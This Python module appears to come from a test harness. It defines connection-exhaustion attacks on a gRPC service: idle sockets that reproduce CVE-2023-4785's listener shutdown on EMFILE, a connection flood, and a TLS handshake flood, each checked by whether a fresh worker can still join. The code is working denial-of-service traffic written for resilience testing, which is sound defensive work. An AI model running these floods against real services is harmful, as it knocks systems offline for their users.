"""Silent connections (CVE-2023-4785: a listener that closed itself on EMFILE)."""
import select
import time

from attacks.registry import attack
from http2 import Connection, open_socket

SILENT, FLOOD_PER_SECOND, HANDSHAKES_PER_SECOND = 400, 200, 40


def fresh_worker_joins(bed, _):
    return [] if bed.joins("fresh-a") else ["a fresh worker cannot join"]


def drop_closed(sockets):
    """Those that the peer has not closed."""
    poll = select.poll()
    by_number = {one.fileno(): one for one in sockets}
    for number in by_number:
        poll.register(number, select.POLLIN | select.POLLRDHUP)
    for number, _ in poll.poll(0):
        one = by_number[number]
        try:
            over = not one.recv(1 << 12)
        except BlockingIOError:
            continue
        except OSError:
            over = True
        if over:
            one.close()
            del by_number[number]
    return list(by_number.values())


def silent(target, number):
    one = open_socket(target.grpc, target.source(number), 2)
    one.setblocking(False)
    return one


@attack("silent_connections", f"{SILENT} TCP connections that say nothing, nofile 256", check=fresh_worker_joins, in_all=False,
        prefix=("prlimit", "--nofile=256:4096", "--"), seconds=13)
def silent_connections(target):
    held, refused = [], 0
    for number in range(SILENT):
        try:
            held.append(silent(target, number))
        except OSError:
            refused += 1
    begin, opened = time.monotonic(), len(held)
    while held and target.goes_on():
        held = drop_closed(held)
        time.sleep(0.05)
    return {"opened": opened, "refused": refused, "closed_by_aggregator": opened - len(held),
            "after_seconds": round(time.monotonic() - begin, 1)}


@attack("connect_flood", f"{FLOOD_PER_SECOND} connections a second, each held for 4 s at most, silent", check=fresh_worker_joins)
def connect_flood(target):
    begin, opened, refused, held = time.monotonic(), 0, 0, []
    while target.goes_on():
        while opened + refused < FLOOD_PER_SECOND * (time.monotonic() - begin):
            try:
                held.append((time.monotonic(), silent(target, opened)))
                opened += 1
            except OSError:
                refused += 1
        while held and held[0][0] < time.monotonic() - 4:
            held.pop(0)[1].close()
        time.sleep(0.005)
    return {"opened": opened, "refused": refused}


@attack("handshakes", f"{HANDSHAKES_PER_SECOND} TLS handshakes a second, and no call")
def handshakes(target):
    begin, made, refused = time.monotonic(), 0, 0
    while target.goes_on():
        try:
            Connection(target.grpc, target.ca, target.source(made), 1).close()
            made += 1
        except OSError:
            refused += 1
        time.sleep(max(0.0, begin + (made + refused) / HANDSHAKES_PER_SECOND - time.monotonic()))
    return {"made": made, "refused": refused}
